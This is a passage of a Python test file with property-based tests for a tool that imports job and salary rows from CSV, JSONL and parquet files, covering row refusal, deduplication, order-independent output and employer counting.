        read([ROW | {"x": "Chef"}], Layout(kind="offer", renamed={"x": "title"}))


def test_a_column_may_be_passed_over_whatever_its_name(read: Read) -> None:
    rows = [ROW | {"level": "guru", "title_in_full": "Chef", "job": "x"}]
    layout = Layout(kind="offer", ignored=frozenset({"level", "title_in_full", "job"}))
    assert accepted(read(rows, layout))[0].level is None


def test_rows_of_two_kinds_are_not_imported_together(parser: FieldParser, tmp_path: Path) -> None:
    file = write(tmp_path / "rows.csv", [ROW | {"kind": "offer"}, ROW | {"kind": "filed"}])
    with pytest.raises(ImportRefused, match="more than one kind: filed, offer"):
        import_observations(
            SOURCE,
            NOTE,
            observations.read_observations([file], Layout(), parser),
            tmp_path / "into",
        )
    imported = import_observations(
        SOURCE,
        NOTE,
        observations.read_observations([file], Layout(kind="offer"), parser),
        tmp_path / "into",
    )
    assert (imported.written.rows, sum(imported.refused.values())) == (1, 1)


# Promises about all rows.

CELL = st.text(max_size=20) | st.sampled_from(
    ["Data Engineer", "senior", "15-1252", "94105", "150000", "75.5", "hour", "2024-03-01", "USD"]
)
VALUE = st.recursive(
    CELL | st.none() | st.booleans() | st.integers() | st.floats(),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(CELL, inner, max_size=2),
    max_leaves=3,
)


@settings(max_examples=300)
@given(row=st.dictionaries(st.sampled_from(COLUMNS), VALUE))
@example(row={"title": 10**4_000})
@example(row={"title": ["["] * 10})
def test_every_row_is_an_observation_or_refused(
    row: dict[str, Any], parser: FieldParser, tmp_path_factory: pytest.TempPathFactory
) -> None:
    file = tmp_path_factory.mktemp("rows") / "rows.jsonl"
    file.write_text("{}\n" + json.dumps(row) + "\n", encoding="utf-8")
    first, found = observations.read_observations([file], PLACED, parser)
    assert isinstance(first, RefusedRow)
    if isinstance(found, Observation):
        assert msgspec.json.decode(msgspec.json.encode(found), type=Observation) == found
    else:
        assert found.place == f"{file}, line 2"
        assert found.reason


PAID = st.fixed_dictionaries(
    {
        "title": st.sampled_from(["Data Engineer", "Senior ML Engineer"]),
        "amount": st.integers(20_000, 400_000),
        "employer": st.sampled_from(["", "Acme", "acme", "Beta"]),
        "place": st.sampled_from(["", "Oakland, CA", "94105", "nowhere at all"]),
        "date": st.sampled_from(["", "2024-03-01", "2024-03-02"]),
        "id": st.sampled_from(["", "1", "2"]),
    }
)


@settings(max_examples=20)
@given(rows=st.lists(PAID, min_size=1, max_size=8), seed=st.randoms())
@example(rows=[dict(ROW, employer="", place="", date="", id="")] * 2, seed=None)
def test_what_is_written_is_the_same_whatever_the_order_of_rows_and_however_often_imported(
    rows: list[dict[str, Any]],
    seed: Any,
    parser: FieldParser,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    folder = tmp_path_factory.mktemp("orders")
    rows.append(dict(ROW, employer="Last", place="", date="", id="3"))
    orders = [rows, rows, rows[::-1]]
    if seed:
        orders.append(seed.sample(rows, len(rows)))
    written = set()
    for order in orders:
        file = write(folder / "rows.csv", order)
        import_observations(
            SOURCE, NOTE, observations.read_observations([file], PLACED, parser), folder / "into"
        )
        written.add((folder / "into" / f"{SOURCE.id}.parquet").read_bytes())
    assert len(written) == 1


@settings(max_examples=100)
@given(
    low=st.integers(20_000, 200_000),
    spread=st.integers(0, 50_000),
    factor=st.sampled_from([0.5, 2, 3, 10]),
)
def test_pay_scales_with_the_amounts(
    low: int,
    spread: int,
    factor: float,
    parser: FieldParser,
    tmp_path_factory: pytest.TempPathFactory,
) -> None:
    ends = [(low, low + spread), (low * factor, (low + spread) * factor)]
    rows = [{"title": "Data Engineer", "min": str(a), "max": str(b)} for a, b in ends]
    file = write(tmp_path_factory.mktemp("scaled") / "rows.csv", rows)
    one, other = accepted(list(observations.read_observations([file], PLACED, parser)))
    assert (other.low, other.high) == (round(one.low * factor, 2), round(one.high * factor, 2))


def test_the_same_row_twice_is_one_observation_and_of_one_id_the_latest_counts(
    parser: FieldParser, tmp_path: Path
) -> None:
    rows = [ROW, ROW, ROW | {"id": "1", "date": "2024-03-01"}]
    rows.append(ROW | {"id": "1", "date": "2024-03-02", "amount": "160000"})
    file = write(tmp_path / "rows.jsonl", rows)
    imported = import_observations(
        SOURCE, NOTE, observations.read_observations([file], PLACED, parser), tmp_path / "into"
    )
    assert (imported.written.rows, imported.written.repeated) == (2, 2)
    numbers = str(tmp_path / "into" / f"{SOURCE.id}.parquet")
    found = duckdb.execute("select low from read_parquet($1) order by low", [numbers]).fetchall()
    assert found == [(150_000,), (160_000,)]


def test_rows_with_ids_of_their_own_are_kept_though_they_have_the_same_content(
    own: Path, tmp_path: Path
) -> None:
    row = ROW | {"employer": "Acme", "date": "2025-03-01"}
    rows = [row | {"id": id_} for id_ in ("1", "2", "2", "", "")]
    done = command(own, write(tmp_path / "rows.csv", rows), *CITED, "--kind", "placement")
    assert "3 observations from 1 employer. Skipped 2 repeated rows." in done.stdout
    about = json.loads((own / "observations" / f"{SOURCE.id}.json").read_bytes())
    assert "Rows with different ids all count" in about["note"]
    assert "Rows of one employer" not in about["note"]


def test_employers_are_counted_as_the_build_counts_them(own: Path, tmp_path: Path) -> None:
    names = ("Acme Robotics", "The Acme Robotics Group", "Acme Robotiks", "Widget", "Unknown", "")
    rows = [ROW | {"id": str(number), "employer": name} for number, name in enumerate(names)]
    file = write(tmp_path / "rows.csv", rows)
    private = command(own, file, *CITED, "--kind", "placement")
    assert "6 observations from 2 employers." in private.stdout
    # Of a public source, where nobody needs to be hidden, only the legal form is no difference.
    public = command(own, file, *CITED, "--kind", "placement", "--public")
    assert "6 observations from 4 employers." in public.stdout


# Real advertisements.


def test_real_advertisements_are_imported(own: Path) -> None:
    file = shared_file("data_jobs_2023_us.parquet")
    columns = ("job_title=title", "location=place", "annual_usd=amount", "posted=date")
    options = [word for column in columns for word in ("--column", column)]
    done = command(own, file, *CITED, *options, "--kind", "advertised")
    assert done.returncode == 0, done.stderr
    about = msgspec.json.decode(
        (own / "observations" / f"{SOURCE.id}.json").read_bytes(), type=Observed
    )
    assert about.rows > 10_000
    assert about.employers > 4_000
    assert about.as_of == "2023-12-31"
